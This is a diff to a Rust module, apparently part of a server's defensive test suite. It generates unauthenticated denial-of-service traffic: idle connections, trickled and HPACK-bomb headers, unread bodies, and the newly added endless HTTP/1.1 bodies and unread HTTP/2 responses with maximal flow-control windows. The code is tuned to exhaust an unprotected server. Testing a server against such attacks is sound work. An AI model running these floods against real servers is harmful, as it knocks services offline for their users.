@@ -1,4 +1,5 @@
-//! Unauthenticated clients that make a server allocate memory for them.
+//! Unauthenticated clients that make a server allocate memory for them: an impersonation proxy, or
+//! an ingress with a backend.
 
 use std::net::SocketAddr;
 use std::sync::Arc;
@@ -6,7 +7,7 @@ use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::Duration;
 
 use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
-use tokio::net::TcpStream;
+use tokio::net::{TcpSocket, TcpStream};
 use tokio::sync::Semaphore;
 use tokio::task::JoinSet;
 use tokio_rustls::client::TlsStream;
@@ -17,6 +18,19 @@ use crate::wire;
 const HANDSHAKES: usize = 8;
 /// Pause of a client after its connection is closed or after it has sent all its data.
 const PAUSE: Duration = Duration::from_secs(1);
+/// Time for which a client leaves responses unread before it connects again. A server may close the
+/// connection earlier.
+const UNREAD: Duration = Duration::from_secs(20);
+/// Number of concurrent requests for responses that an HTTP/2 client does not read.
+const UNREAD_STREAMS: u32 = 100;
+/// One of this number of clients that do not read responses uses HTTP/2, the others HTTP/1.1.
+const UNREAD_HTTP2: usize = 20;
+/// Send buffer in bytes of clients that send without end. Otherwise, the kernel of the machine
+/// enlarges it to several megabytes.
+const SEND_BUFFER: u32 = 64 << 10;
+
+/// The path of [`Attack::UnreadResponses`]. The response must be large.
+pub const LARGE: &str = "/large";
 
 /// The kinds of attack.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -30,12 +44,28 @@ pub enum Attack {
     UnreadBodies,
     /// Sends heads of a few kilobytes that decode to hundreds of kilobytes, and reads no response.
     HeaderBombs,
+    /// Sends a body without end over HTTP/1.1. The backend must not read it.
+    EndlessBodies,
+    /// Requests [`LARGE`] responses and reads nothing: in HTTP/1.1 one response for each
+    /// connection, in HTTP/2 many, with windows for all of them.
+    UnreadResponses,
 }
 
 impl Attack {
-    /// All kinds of attack.
-    pub const ALL: [Self; 4] =
+    /// The attacks on a server that reviews the token of each request.
+    pub const BEFORE_AUTHENTICATION: [Self; 4] =
         [Self::IdleConnections, Self::TricklingHeads, Self::UnreadBodies, Self::HeaderBombs];
+
+    /// The attacks on an ingress, which forwards the requests of any client. The backend responds
+    /// only to requests for [`LARGE`], and reads no body.
+    pub const ON_INGRESS: [Self; 6] = [
+        Self::IdleConnections,
+        Self::TricklingHeads,
+        Self::UnreadBodies,
+        Self::HeaderBombs,
+        Self::EndlessBodies,
+        Self::UnreadResponses,
+    ];
 
     /// The number of clients that exhausts an unprotected server.
     fn clients(self) -> usize {
@@ -45,7 +75,29 @@ impl Attack {
             // Each request makes the server ask for a review.
             Self::UnreadBodies => 100,
             Self::HeaderBombs => 400,
+            Self::EndlessBodies => 3000,
+            // The backend has a connection for each request: 60 clients with 100 requests, and 1140
+            // with one.
+            Self::UnreadResponses => 1200,
         }
+    }
+
+    /// Returns whether a client uses HTTP/1.1.
+    fn is_http1(self, number: usize) -> bool {
+        match self {
+            Self::IdleConnections | Self::UnreadBodies | Self::HeaderBombs => false,
+            Self::TricklingHeads => number.is_multiple_of(2),
+            Self::EndlessBodies => true,
+            Self::UnreadResponses => !number.is_multiple_of(UNREAD_HTTP2),
+        }
+    }
+
+    async fn connect(self, server: SocketAddr) -> std::io::Result<TcpStream> {
+        let socket = if server.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }?;
+        if self == Self::EndlessBodies {
+            socket.set_send_buffer_size(SEND_BUFFER)?;
+        }
+        socket.connect(server).await
     }
 
     async fn client(
@@ -55,11 +107,11 @@ impl Attack {
         name: &str,
         turn: &Semaphore,
     ) -> anyhow::Result<()> {
-        let is_http1 = self == Self::TricklingHeads && number.is_multiple_of(2);
+        let is_http1 = self.is_http1(number);
         let alpn: &[u8] = if is_http1 { b"http/1.1" } else { b"h2" };
         let mut stream = {
             let _turn = turn.acquire().await?;
-            let tcp = TcpStream::connect(server).await?;
+            let tcp = self.connect(server).await?;
             wire::connect_unverified(tcp, name, &[alpn], None).await?
         };
         match self {
@@ -71,16 +123,16 @@ impl Attack {
                 trickle(&mut stream).await?;
             }
             Self::TricklingHeads => {
-                stream.write_all(&opening()).await?;
+                stream.write_all(&opening(&[])).await?;
                 stream.write_all(&frame(HEADERS, 0, 1, &bomb(name))).await?;
                 stream.write_all(&frame(CONTINUATION, 0, 1, &[])[..8]).await?;
                 until_ended(&mut stream).await?;
             }
             Self::UnreadBodies => {
-                stream.write_all(&opening()).await?;
+                stream.write_all(&opening(&[])).await?;
                 for request in 0..64 {
                     let id = 2 * request + 1;
-                    let mut block = fields(POST, name);
+                    let mut block = fields(POST, "/", name);
                     // Every request uses a new token; the server would answer a repeated one from
                     // its cache.
                     let now = std::time::UNIX_EPOCH.elapsed()?.as_nanos();
@@ -98,12 +150,31 @@ impl Attack {
                 }
             }
             Self::HeaderBombs => {
-                stream.write_all(&opening()).await?;
+                stream.write_all(&opening(&[])).await?;
                 for request in 0..1000 {
                     let id = 2 * request + 1;
                     stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &bomb(name))).await?;
                 }
                 until_ended(&mut stream).await?;
+            }
+            Self::EndlessBodies => {
+                let head =
+                    format!("POST / HTTP/1.1\r\nHost: {name}\r\nContent-Length: {}\r\n\r\n", 1_u64 << 40);
+                stream.write_all(head.as_bytes()).await?;
+                loop {
+                    stream.write_all(&[b'x'; 16 << 10]).await?;
+                }
+            }
+            Self::UnreadResponses => {
+                if is_http1 {
+                    let head = format!("GET {LARGE} HTTP/1.1\r\nHost: {name}\r\n\r\n");
+                    stream.write_all(head.as_bytes()).await?;
+                } else {
+                    stream.write_all(&unread_requests(name)).await?;
+                }
+                stream.flush().await?;
+                // The server may wait for the client without a time limit.
+                let _still_open = tokio::time::timeout(UNREAD, until_ended(&mut stream)).await;
             }
         }
         Ok(())
@@ -169,16 +240,22 @@ async fn trickle(stream: &mut TlsStream<TcpStream>) -> anyhow::Result<()> {
 const DATA: u8 = 0;
 const HEADERS: u8 = 1;
 const SETTINGS: u8 = 4;
+const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
+/// The window of a new connection, and the largest window (RFC 9113, section 6.9).
+const FIRST_WINDOW: u32 = 65_535;
+const MAX_WINDOW: u32 = (1 << 31) - 1;
+/// The content of a SETTINGS frame: `SETTINGS_INITIAL_WINDOW_SIZE` is [`MAX_WINDOW`].
+const MAX_STREAM_WINDOWS: [u8; 6] = [0, 4, 0x7f, 0xff, 0xff, 0xff];
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 /// The pseudo-header field `:method` from the static table (RFC 7541, appendix A).
 const GET: u8 = 0x82;
 const POST: u8 = 0x83;
 
-fn opening() -> Vec<u8> {
+fn opening(settings: &[u8]) -> Vec<u8> {
     let mut opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
-    opening.extend(frame(SETTINGS, 0, 0, &[]));
+    opening.extend(frame(SETTINGS, 0, 0, settings));
     opening
 }
 
@@ -190,18 +267,68 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// `:method`, `:scheme` (https), `:path` (/) and `:authority`.
-fn fields(method: u8, name: &str) -> Vec<u8> {
-    let mut block = vec![method, 0x87, 0x84, 0x01, u8::try_from(name.len()).unwrap_or_default()];
-    block.extend(name.as_bytes());
+/// `:method`, `:scheme` (https), `:path` and `:authority`. The last two are literals without
+/// indexing.
+fn fields(method: u8, path: &str, name: &str) -> Vec<u8> {
+    let mut block = vec![method, 0x87];
+    for (index, text) in [(4, path), (1, name)] {
+        block.extend([index, u8::try_from(text.len()).unwrap_or_default()]);
+        block.extend(text.as_bytes());
+    }
     block
+}
+
+/// Returns an HTTP/2 connection's requests for large responses, and windows for all of them.
+fn unread_requests(name: &str) -> Vec<u8> {
+    let mut requests = opening(&MAX_STREAM_WINDOWS);
+    let more = MAX_WINDOW - FIRST_WINDOW;
+    requests.extend(frame(WINDOW_UPDATE, 0, 0, &more.to_be_bytes()));
+    let block = fields(GET, LARGE, name);
+    for request in 0..UNREAD_STREAMS {
+        requests.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * request + 1, &block));
+    }
+    requests
 }
 
 /// Returns a header block that adds one field to the dynamic table and then refers to it once per
 /// octet, up to 64 KiB of decoded fields.
 fn bomb(name: &str) -> Vec<u8> {
-    let mut block = fields(GET, name);
+    let mut block = fields(GET, "/", name);
     block.extend([0x40, 1, b'a', 1, b'b']);
     block.resize(block.len() + 1800, 0xbe);
     block
+}
+
+#[cfg(test)]
+mod tests {
+    use std::convert::Infallible;
+
+    use http::{Request, Response};
+    use hyper::body::Incoming;
+    use hyper::server::conn::http2;
+    use hyper::service::service_fn;
+    use hyper_util::rt::{TokioExecutor, TokioIo};
+    use tokio::sync::mpsc;
+
+    use super::*;
+
+    #[tokio::test]
+    async fn a_server_receives_all_requests_of_a_client_that_reads_nothing() {
+        let (mut client, server) = tokio::io::duplex(64 << 10);
+        let (sender, mut received) = mpsc::unbounded_channel();
+        let mut tasks = JoinSet::new();
+        tasks.spawn(async move {
+            let service = service_fn(move |request: Request<Incoming>| {
+                let _test_ended = sender.send(request.uri().to_string());
+                async { Ok::<_, Infallible>(Response::new(String::new())) }
+            });
+            let http = http2::Builder::new(TokioExecutor::new());
+            let _ended = http.serve_connection(TokioIo::new(server), service).await;
+        });
+        client.write_all(&unread_requests("attacked.example.com")).await.unwrap();
+        for _ in 0..UNREAD_STREAMS {
+            let received = tokio::time::timeout(Duration::from_secs(30), received.recv());
+            assert_eq!(received.await.unwrap().unwrap(), "https://attacked.example.com/large");
+        }
+    }
 }
